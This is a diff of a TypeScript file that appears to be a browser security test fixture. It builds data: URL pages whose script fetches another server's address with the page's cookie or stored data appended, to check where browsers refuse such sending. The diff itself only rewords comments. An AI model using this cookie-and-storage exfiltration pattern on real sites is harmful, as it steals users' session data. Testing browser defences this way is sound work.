@@ -1,22 +1,22 @@
-/** Scripts that send what a page holds to another server: where they get it, and where browsers refuse it. */
+/** Scripts that send a page's data to another server: where they get it, and where browsers refuse it. */
 
 export interface SendingUrl {
   name: string;
   destination: 'script' | 'iframe';
   /** @param to begins an address of the other server, and ends with a question mark */
   make(to: string): string;
-  /** What arrives behind the question mark. */
+  /** The text that arrives after the question mark. */
   arrives: string;
   messageId: string;
 }
 
-/** What the page has, as a cookie and in its storage. */
+/** The page's cookie, and the text in its storage. */
 export const cookie = 'secret=cookie';
 export const stored = 'stored';
 
 const script = (text: string) => `data:text/javascript,${encodeURIComponent(text)}`;
 const page = (text: string) => `data:text/html,${encodeURIComponent(text)}`;
-/** What throws is sent as nothing. */
+/** Sends nothing if the source throws. */
 const tried = (to: string, source: string) =>
   page(`<script>try{fetch("${to}"+${source})}catch{fetch("${to}")}</script>`);
 
